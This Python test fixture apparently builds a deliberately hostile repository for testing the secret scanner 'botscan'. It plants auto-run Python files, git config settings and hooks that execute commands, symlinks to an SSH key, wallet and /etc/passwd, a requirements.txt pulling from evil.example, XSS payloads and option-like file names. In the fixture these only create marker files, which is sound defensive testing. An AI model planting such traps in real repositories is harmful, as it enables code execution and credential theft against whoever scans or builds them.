"""A generated repository that attacks the person who scans it (issue 8, item 3).

`build(base)` makes, under `base`:

- `home/`: a fake home directory holding the kind of secrets a malicious bot wants (an SSH key,
  a Solana wallet, a `.env` and a Python file of exchange keys). The scanned tree links to
  them; none of their bytes, and none of their redacted forms, may reach any output.
- `markers/`: empty. Every trap in the tree (import-time code, `setup.py`, `conftest.py`,
  `sitecustomize.py`, a `.pth` file, an in-tree build backend, git's fsmonitor, hooks,
  filters, textconv, pager, ssh command, aliases) creates a file here if it ever runs.
- `bot/`: the repository: a real `git init` with commits (one of them held a key that was
  deleted since), armed afterwards with a hostile `.git/config` and hooks, and holding
  pathological files (5,000-deep nesting, megabyte lines, a 13 MB JSON, a binary named `.py`,
  bad encodings, Python 2, a FIFO), links out of the tree and in loops, file names that are
  markup, quotes, newlines, undecodable bytes or look like options, configuration that would
  switch the credential rules off if botscan read it from the tree, and a zip with `../`
  members and a 200 MB zero stream.

Everything the tests need to judge a scan of it is in the returned `Hostile`: the in-tree
secrets that must be reported (and where), the outside secrets that must never appear, the
files that must be reported as notices, and the weird names that must survive.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import stat
import subprocess
from dataclasses import dataclass, field
from pathlib import Path

from helpers_security import HEX_LOWER, token, write
from hostile_archives import PWN, zip_with_escapes_and_zero_stream

# --- things that run ------------------------------------------------------------------------


def tripwire(marker: Path) -> str:
    """Python that creates `marker` when it runs."""
    return f"open({str(marker)!r}, 'w').close()\n"


def plant_tripwires(tree: Path, markers: Path, secret: str) -> list[Path]:
    """A bot whose every conventionally auto-run file creates a marker when run or imported.

    `bot.py` also hardcodes `secret` on line 2, so a scan that read nothing would not pass for
    one that ran nothing.
    """
    markers.mkdir(exist_ok=True)
    names = ["bot", "init", "conftest", "setup", "sitecustomize", "usercustomize", "pth",
             "main_guard", "dunder_main", "pkg_init", "shadow_click", "shadow_libcst",
             "build_backend"]
    wire = {name: markers / f"{name}.ran" for name in names}
    write(tree, "bot.py",
          "import os\n"
          f"API_SECRET = {secret!r}\n"
          + tripwire(wire["bot"])
          + "if __name__ == '__main__':\n    " + tripwire(wire["main_guard"]))
    write(tree, "__init__.py", tripwire(wire["init"]))
    write(tree, "conftest.py", "import pytest\n" + tripwire(wire["conftest"]))
    write(tree, "setup.py",
          "from setuptools import setup\n" + tripwire(wire["setup"]) + "setup(name='evil')\n")
    write(tree, "sitecustomize.py", tripwire(wire["sitecustomize"]))
    write(tree, "usercustomize.py", tripwire(wire["usercustomize"]))
    write(tree, "evil.pth", f"import os; {tripwire(wire['pth'])}")
    write(tree, "pkg/__init__.py", tripwire(wire["pkg_init"]))
    write(tree, "pkg/__main__.py", tripwire(wire["dunder_main"]))
    # Modules named like botscan's own dependencies: importing from the scanned tree
    # instead of site-packages would run them.
    write(tree, "click.py", tripwire(wire["shadow_click"]))
    write(tree, "libcst.py", tripwire(wire["shadow_libcst"]))
    # A PEP 517 in-tree build backend: building or installing the bot would run it.
    write(tree, "pyproject.toml", '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
                                  'backend-path = ["."]\n\n[project]\nname = "evil"\n')
    write(tree, "backend.py", tripwire(wire["build_backend"]))
    return list(wire.values())


GIT_TRAPS = """
[core]
    fsmonitor = {bin}/run fsmonitor
    hooksPath = {root}/hooks-elsewhere
    pager = {bin}/run pager
    sshCommand = {bin}/run ssh
    askPass = {bin}/run askpass
    alternateRefsCommand = {bin}/run alternate-refs
[filter "x"]
    clean = {bin}/run clean
    smudge = {bin}/run smudge
[diff "x"]
    textconv = {bin}/run textconv
    command = {bin}/run diff-command
[diff]
    external = {bin}/run diff-external
[merge "x"]
    driver = {bin}/run merge-driver
[log]
    showSignature = true
[gpg]
    program = {bin}/gpg
[gpg "ssh"]
    program = {bin}/gpg-ssh
[pager]
    log = {bin}/run pager-log
    cat-file = {bin}/run pager-cat-file
[alias]
    log = !{bin}/run alias-log
    cat-file = !{bin}/run alias-cat-file
    rev-list = !{bin}/run alias-rev-list
    lg = !{bin}/run alias-lg
[uploadpack]
    packObjectsHook = {bin}/run pack-objects-hook
[protocol]
    allow = always
[protocol "ext"]
    allow = always
[protocol "file"]
    allow = always
[remote "origin"]
    url = ext::{bin}/run ext-transport %S
    uploadpack = {bin}/run uploadpack
    promisor = true
    partialclonefilter = blob:none
[credential]
    helper = !{bin}/run credential
"""
"""Every git setting that names a command: `{bin}/run NAME` creates the marker NAME."""

GIT_HOOKS = ("post-checkout", "pre-commit", "post-commit", "post-index-change",
             "reference-transaction", "pre-auto-gc", "post-rewrite", "fsmonitor-watchman",
             "pre-push", "post-merge")


def arm_git(root: Path, markers: Path, bin_dir: Path) -> None:
    """Turn the committed repository at `root` hostile: its config, attributes and hooks name
    commands that create a marker in `markers` (named after the setting) when git runs them.

    The runner passes content through (filters on stdin, textconv on a file argument) so that
    ordinary git carries on and reaches every other configured command: the control tests show
    the traps are live.
    """
    markers.mkdir(exist_ok=True)
    bin_dir.mkdir(exist_ok=True)
    runner = bin_dir / "run"
    runner.write_text(f'#!/bin/sh\ntouch "{markers}/$1"\n'
                      'case "$1" in ext-transport|uploadpack|ssh) exit 1;; esac\nshift\n'
                      'if [ -f "$1" ]; then cat "$1"; else cat; fi\n')
    runner.chmod(0o755)
    for name in ("gpg", "gpg-ssh"):  # run without a shell: no arguments in the setting
        program = bin_dir / name
        program.write_text(f'#!/bin/sh\ntouch "{markers}/{name}"\n')
        program.chmod(0o755)
    git_dir = root / ".git"
    with open(git_dir / "config", "a", encoding="utf-8") as handle:
        handle.write(GIT_TRAPS.format(bin=bin_dir, root=root))
    (git_dir / "info").mkdir(exist_ok=True)
    (git_dir / "info" / "attributes").write_text("* filter=x diff=x merge=x\n")
    for hooks in (git_dir / "hooks", root / "hooks-elsewhere"):
        hooks.mkdir(exist_ok=True)
        for name in GIT_HOOKS:
            hook = hooks / name
            hook.write_text(f'#!/bin/sh\ntouch "{markers}/hook-{name}"\n')
            hook.chmod(hook.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)


def git_env(home: Path, clock: int = 1_700_000_000) -> dict[str, str]:
    """The environment to build the repository with: no user or system config, fixed dates."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    date = f"{clock} +0000"
    env.update(HOME=str(home), GIT_CONFIG_NOSYSTEM="1", GIT_CONFIG_GLOBAL=os.devnull,
               GIT_AUTHOR_NAME="mallory", GIT_AUTHOR_EMAIL="m@example.com",
               GIT_COMMITTER_NAME="mallory", GIT_COMMITTER_EMAIL="m@example.com",
               GIT_AUTHOR_DATE=date, GIT_COMMITTER_DATE=date)
    return env


def git(root: Path, *args: str, home: Path, clock: int = 1_700_000_000) -> str:
    done = subprocess.run(["git", *args], cwd=root, env=git_env(home, clock), check=True,
                          capture_output=True, timeout=300)
    return done.stdout.decode("utf-8", "replace").strip()


# --- the description the tests judge a scan by ----------------------------------------------


@dataclass(frozen=True)
class Planted:
    """An in-tree secret: reported at (path, line) with `rule`, never shown whole."""

    path: str
    line: int
    rule: str
    secret: str


@dataclass
class Hostile:
    base: Path
    root: Path
    """The repository to scan."""
    home: Path
    """The fake home directory (HOME of every botscan run)."""
    markers: Path
    planted: list[Planted] = field(default_factory=list)
    outside: dict[str, str] = field(default_factory=dict)
    """Secrets outside the tree, by name: neither whole nor redacted in any output."""
    canary: str = ""
    """A plain word beside every outside secret: a snippet of a file read outside would show it."""
    notices: dict[str, str] = field(default_factory=dict)
    """path -> the notice kind the scan must give it."""
    odd_names: list[str] = field(default_factory=list)
    """File names (as reported) that must be reported with their planted key."""
    payload_strings: list[str] = field(default_factory=list)
    """Markup in the tree's content and names: text in every report, never markup."""
    expected: list[tuple[str, str, int]] = field(default_factory=list)
    """(rule, path, line) of other findings that must be there (their snippets carry markup)."""

    def fired(self) -> list[str]:
        """The traps that ran: the names of the markers present."""
        return sorted(p.name for p in self.markers.iterdir())

    def secrets(self) -> list[str]:
        return [p.secret for p in self.planted]


# --- building it ----------------------------------------------------------------------------

_RNG_SEED = 20240818


def _outside_secrets(home: Path, rng: random.Random, canary: str) -> dict[str, str]:
    """The fake home: what a malicious bot's symbolic links point at."""
    body = "\n".join(token(rng, 70)[i:i + 70] for i in range(6))
    openssh = body.replace("\n", "")
    write(home, ".ssh/id_ed25519",
          f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}\n-----END OPENSSH PRIVATE KEY-----\n"
          f"# {canary}\n")
    keypair = [rng.randrange(256) for _ in range(64)]
    write(home, ".config/solana/id.json", json.dumps(keypair) + "\n")
    env_secret = token(rng, 64)
    write(home, ".env.exchange", f"BINANCE_API_SECRET={env_secret}  # {canary}\n")
    py_secret = token(rng, 64)
    write(home, "exchange_keys.py", f'API_SECRET = "{py_secret}"  # {canary}\n')
    wallet_key = "0x" + token(rng, 64, HEX_LOWER)
    write(home, "wallet/hot.txt", f"PRIVATE_KEY={wallet_key}  # {canary}\n")
    return {"ssh key body": openssh, "ssh key line": body.splitlines()[0],
            "solana keypair": json.dumps(keypair), "env secret": env_secret,
            "python secret": py_secret, "wallet key": wallet_key}


def _links(root: Path, home: Path) -> dict[str, str]:
    """Links out of the tree and in loops; each must be a `symlink` notice."""
    links = {
        "secrets/id_ed25519": str(home / ".ssh" / "id_ed25519"),
        "wallet/id.json": "../../home/.config/solana/id.json",
        ".env": str(home / ".env.exchange"),
        "exchange_keys.py": str(home / "exchange_keys.py"),
        "hot_wallet.txt": "../home/wallet/hot.txt",
        "homedir": str(home),
        "etc": "/etc",
        "passwd.txt": "/etc/passwd",
        "loop.py": "loop.py",
        "ping.py": "pong.py",
        "pong.py": "ping.py",
        "sub/up": "..",
        "self": ".",
    }
    for rel, target in links.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
    return {rel: "symlink" for rel in links if rel not in ("sub/up", "self")}


def _pathological(root: Path, rng: random.Random, planted: list[Planted],
                  notices: dict[str, str]) -> None:
    nested_key = token(rng, 64)
    write(root, "deep/nested.py",
          f'API_SECRET = "{nested_key}"\nx = ' + "(" * 5000 + "1" + ")" * 5000 + "\n")
    planted.append(Planted("deep/nested.py", 1, "BOT101", nested_key))
    notices["deep/nested.py"] = "pathological"
    write(root, "deep/nested.json", '{"x": ' + "[" * 5000 + "]" * 5000 + "}\n")
    write(root, "deep/nested.yaml", "x: " + "[" * 5000 + "]" * 5000 + "\n")
    # A megabyte single line, with a key before it: over the parse cap, scanned as text.
    big_key = token(rng, 64)
    write(root, "minified.py",
          f'API_SECRET = "{big_key}"\nBLOB = "' + "ab" * 524_288 + '"\n')
    planted.append(Planted("minified.py", 1, "BOT101", big_key))
    notices["minified.py"] = "too-large"
    write(root, "static/app.min.js", "var a=" + "[1,2,3]," * 131_072 + "0;\n")
    # 13 MB of market data: over the walker's size cap.
    candle = "[1700000000000,37000.1,37010.5,36990.2,37005.0,12.5],"
    write(root, "user_data/data/BTC_USDT-1m.json",
          "[" + candle * (13_000_000 // len(candle)) + "[0,0,0,0,0,0]]\n")
    notices["user_data/data/BTC_USDT-1m.json"] = "too-large"
    write(root, "native.py", b"\x7fELF\x02\x01\x01\x00" + bytes(rng.randrange(256)
                                                             for _ in range(8192)))
    notices["native.py"] = "binary"
    bad_key = token(rng, 64)
    write(root, "badutf.py", b"# caf\xe9 \xff\xfe\x80 not utf-8\n"
          + f'API_SECRET = "{bad_key}"\n'.encode() + b'NAME = "\xc3("\n')
    planted.append(Planted("badutf.py", 2, "BOT101", bad_key))
    notices["badutf.py"] = "decoding"
    write(root, "rot13.py", b"# -*- coding: rot13 -*-\nvzcbeg bf\n")
    # CPython cannot run UTF-16 source: a `.py` in it is binary as far as Python is concerned.
    write(root, "utf16.py", "\ufeffimport os\nNAME = 'ü'\n".encode("utf-16-le"))
    notices["utf16.py"] = "binary"
    py2_key = token(rng, 64)
    write(root, "legacy/py2.py",
          "import os\n"
          'print "starting"\n'
          "try:\n"
          "    os.remove('x')\n"
          "except Exception, e:\n"
          "    print e\n"
          f'API_SECRET = "{py2_key}"\n')
    planted.append(Planted("legacy/py2.py", 7, "BOT101", py2_key))
    notices["legacy/py2.py"] = "not-parsed"


def _deep_directories(root: Path, depth: int = 1500) -> None:
    """`d/d/d/…` 1,500 deep (3,000 characters): deeper than Python's recursion limit."""
    fd = os.open(root, os.O_RDONLY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
        leaf = os.open("bottom.py", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(leaf, b"import os\nKEY = os.environ['KEY']\n")
        os.close(leaf)
    finally:
        os.close(fd)


def remove_deep_directories(root: Path) -> None:
    """Take the `d/d/d/…` tower apart from the top: `shutil.rmtree` (and so pytest's clean-up
    of old temporary directories) recurses once per level and would give up half way."""
    top, spare = root / "d", root / "d.next"
    while (top / "d").is_dir():
        (top / "d").rename(spare)
        shutil.rmtree(top)
        spare.rename(top)
    shutil.rmtree(top, ignore_errors=True)


def _odd_names(root: Path, rng: random.Random, planted: list[Planted]) -> list[str]:
    """File names that are markup, quotes, newlines, undecodable bytes, or options to git;
    each holds a key so that it must come out in the report."""
    names = [
        f"<script>{PWN}<",            # a directory: `/` cannot be in a name
        f"<img src=x onerror=\"{PWN}\">.py",
        "quote\"s'and`back`.py",
        "new\nline.py",
        "-p.py",
        "--output=pwned.py",
        "-c core.fsmonitor=touch.py",
        "--exec=sh.py",
        "tab\tand space .py",
    ]
    reported = []
    for name in names:
        rel = f"{name}/x.py" if name.endswith("<") else name
        key = token(rng, 64)
        write(root, rel, f'API_SECRET = "{key}"\n')
        planted.append(Planted(rel, 1, "BOT101", key))
        reported.append(rel)
    # Undecodable bytes in a name: written through the bytes API.
    key = token(rng, 64)
    raw = os.fsencode(root) + b"/caf\xe9-\xff.py"
    with open(raw, "wb") as handle:
        handle.write(f'API_SECRET = "{key}"\n'.encode())
    rel = os.fsdecode(b"caf\xe9-\xff.py")
    planted.append(Planted(rel, 1, "BOT101", key))
    reported.append(rel)
    return reported


def _config_traps(root: Path) -> None:
    """Settings that would hide every credential if botscan took its configuration from the
    scanned tree (it reads it from the working directory only)."""
    with open(root / "pyproject.toml", "a", encoding="utf-8") as handle:
        handle.write('\n[tool.botscan]\nignore = ["BOT1", "BOT2", "BOT4"]\n'
                     'exclude = ["*.py", "*.json"]\nfail-on = "never"\n')
    write(root, ".botscan.toml", 'ignore = ["BOT1"]\nexclude = ["**"]\n')
    write(root, "requirements.txt",
          "ccxt==4.2.1\n"
          "python-binance==1.0.19\n"
          "-r ../home/.ssh/id_ed25519\n"
          "-r secrets/id_ed25519\n"
          "-c /etc/passwd\n"
          "-e .\n"
          "-e git+https://evil.example/x.git#egg=x\n"
          "--index-url http://evil.example/simple\n"
          "./local_pkg\n")
    write(root, "local_pkg/setup.py", "import os\nos.system('touch /tmp/never')\n")


def build(base: Path) -> Hostile:
    rng = random.Random(_RNG_SEED)
    home, root, markers = base / "home", base / "bot", base / "markers"
    canary = "outside-canary-zebra-quartz"
    hostile = Hostile(base=base, root=root, home=home, markers=markers, canary=canary)
    hostile.outside = _outside_secrets(home, rng, canary)
    root.mkdir(parents=True)

    # 1. history: a key committed, then deleted (BOT104 must still find it).
    git(root, "init", "-q", "-b", "main", home=home)
    history_key = token(rng, 64)
    write(root, "config.py", f'BINANCE_API_SECRET = "{history_key}"\n')
    write(root, ".gitattributes", "* filter=x diff=x merge=x\n")
    git(root, "add", "-A", home=home)
    git(root, "commit", "-q", "-m", "initial", home=home, clock=1_700_000_000)
    write(root, "config.py", 'import os\nBINANCE_API_SECRET = os.environ["BINANCE_API_SECRET"]\n')
    git(root, "commit", "-q", "-am", "read the key from the environment", home=home,
        clock=1_700_000_100)
    hostile.planted.append(Planted("config.py", 1, "BOT104", history_key))

    # 2. the tree: tripwires, a realistic config with a live exchange key, everything else.
    trip_key = token(rng, 64)
    plant_tripwires(root, markers, trip_key)
    hostile.planted.append(Planted("bot.py", 2, "BOT101", trip_key))
    exchange_key, exchange_secret = token(rng, 64), token(rng, 64)
    config = json.dumps({
        "max_open_trades": 3,
        "stake_currency": "USDT",
        "dry_run": False,
        "exchange": {"name": "binance", "key": exchange_key, "secret": exchange_secret,
                     "ccxt_config": {}, "pair_whitelist": ["BTC/USDT", "ETH/USDT"]},
    }, indent=4) + "\n"
    write(root, "user_data/config.json", config)
    for rule, secret in (("BOT102", exchange_key), ("BOT101", exchange_secret)):
        line = next(n for n, text in enumerate(config.splitlines(), 1) if secret in text)
        hostile.planted.append(Planted("user_data/config.json", line, rule, secret))
    payload = f"<script>{PWN}</script>"
    write(root, "notify.py",
          "import requests\n\n\n"
          "def alert(text):\n"
          f'    requests.get("http://alerts.tradesignal.io/{payload}", params={{"t": text}})\n')
    write(root, "README.md", f"# Evil bot\n\n{payload}\n<img src=x onerror=\"{PWN}\">\n")
    hostile.payload_strings += [payload, f'<img src=x onerror="{PWN}">']
    hostile.expected.append(("BOT401", "notify.py", 5))
    _pathological(root, rng, hostile.planted, hostile.notices)
    hostile.odd_names = _odd_names(root, rng, hostile.planted)
    _config_traps(root)
    zip_with_escapes_and_zero_stream(root / "vendor" / "plugins.zip")
    hostile.notices.update(_links(root, home))
    git(root, "add", "-A", home=home)
    git(root, "commit", "-q", "-m", "the bot", home=home, clock=1_700_000_200)

    # 3. what git cannot hold (a FIFO, paths deeper than it likes), then the traps in git.
    os.mkfifo(root / "fifo.py")
    hostile.notices["fifo.py"] = "unreadable"
    _deep_directories(root)
    arm_git(root, markers, base / "bin")
    return hostile
